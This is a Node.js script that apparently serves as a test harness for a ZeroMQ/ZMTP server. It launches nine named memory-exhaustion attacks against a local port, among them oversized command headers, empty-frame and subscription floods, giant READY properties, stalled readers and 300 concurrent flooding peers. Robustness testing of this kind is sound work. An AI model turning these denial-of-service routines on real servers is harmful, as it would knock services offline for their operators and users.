// Peers that try to fill the memory of a server: node attacker.mjs ATTACK PORT [PUBLIC KEY]
// It prints "prepared", begins when its input has a line, and goes on until it is killed. When an attack has nothing more
// to send, it prints "done" and what was sent.
import { once } from "node:events";
import { createInterface } from "node:readline";
import { command, frame, greeting, handshake, header, open, repeat } from "../../fairness/programs/zmtp.mjs";

const [attack, port, publicKey] = process.argv.slice(2);

const KIB = 1024;
const MIB = 1024 * KIB;
const GIB = 1024 * MIB;
const MORE = 1;
const COMMAND = 4;

/** Sends, and waits until the kernel has taken the bytes or the connection is closed. */
async function send(socket, bytes) {
  if (socket.destroyed || socket.write(bytes)) return;
  await new Promise((resolve) => {
    const settle = () => {
      socket.off("drain", settle);
      socket.off("close", settle);
      resolve();
    };
    socket.on("drain", settle);
    socket.on("close", settle);
  });
}

/** Sends the same bytes again and again. Returns how many bytes were sent before the end or before the connection was closed. */
async function flood(socket, bytes, limit = Infinity) {
  let sent = 0;
  for (; sent < limit && !socket.destroyed; sent += bytes.length) await send(socket, bytes);
  return sent;
}

/** Does the same from many connections at once, and begins again when a connection is closed. */
function again(count, act) {
  return Promise.all(
    Array.from({ length: count }, async () => {
      for (;;) await act();
    }),
  );
}

async function greeted(mechanism) {
  const socket = await open(port);
  socket.resume();
  socket.write(greeting(mechanism));
  return socket;
}

async function closed(socket) {
  if (!socket.destroyed) await once(socket, "close");
}

const attacks = {
  async hugeCommands() {
    const bytes = Buffer.concat([header(2 * GIB, COMMAND), Buffer.alloc(MIB)]);
    await again(4, async () => {
      const socket = await greeted();
      await send(socket, bytes);
      await closed(socket);
    });
  },

  async emptyFrames() {
    const bytes = repeat(frame("", MORE), 64 * KIB);
    await again(1, async () => flood(await handshake(port, "PUSH"), bytes, 69_000_000));
  },

  async subscriptions() {
    await again(1, async () => {
      const socket = await handshake(port, "SUB");
      socket.resume();
      for (let i = 0; i < 100_000 && !socket.destroyed; i++)
        await send(socket, command("SUBSCRIBE", Buffer.alloc(KIB, `${i} `)));
    });
  },

  async hugeTopic() {
    const bytes = command("SUBSCRIBE", Buffer.alloc(64_000_000));
    await again(1, async () => {
      const socket = await handshake(port, "SUB");
      socket.resume();
      await send(socket, bytes);
      await closed(socket);
    });
  },

  async curve() {
    const { Push, curveKeyPair } = await import("zeromq-wasm");
    const keys = curveKeyPair();
    const push = new Push({
      linger: 0,
      curveServerKey: publicKey,
      curvePublicKey: keys.publicKey,
      curveSecretKey: keys.secretKey,
    });
    push.connect(`tcp://127.0.0.1:${port}`);
    const body = Buffer.alloc(16 * MIB);
    for (;;) await push.send(body);
  },

  /** A subscriber of everything that does not read. */
  async stalled() {
    const socket = await handshake(port, "SUB");
    await send(socket, command("SUBSCRIBE", Buffer.alloc(0)));
    socket.pause();
  },

  async manyPeers() {
    const message = frame(Buffer.alloc(4000));
    const sockets = await Promise.all(Array.from({ length: 300 }, () => handshake(port, "PUSH")));
    await Promise.all(sockets.map((socket) => flood(socket, message, 1000 * message.length)));
    console.log("done");
  },

  async hugeReadys() {
    const properties = Buffer.alloc(38_000_000, "\u0001x\0\0\0\0");
    const hello = Buffer.concat([greeting(), command("READY", properties)]);
    await again(6, async () => {
      const socket = await open(port);
      socket.resume();
      await send(socket, hello);
      await closed(socket);
    });
  },

  async announced() {
    await again(20, async () => {
      const socket = await handshake(port, "PUSH");
      socket.resume();
      await send(socket, header(GIB));
      await flood(socket, Buffer.alloc(MIB), GIB);
    });
  },
};

console.log("prepared");
for await (const line of createInterface({ input: process.stdin })) {
  if (line === "start") void attacks[attack]();
}
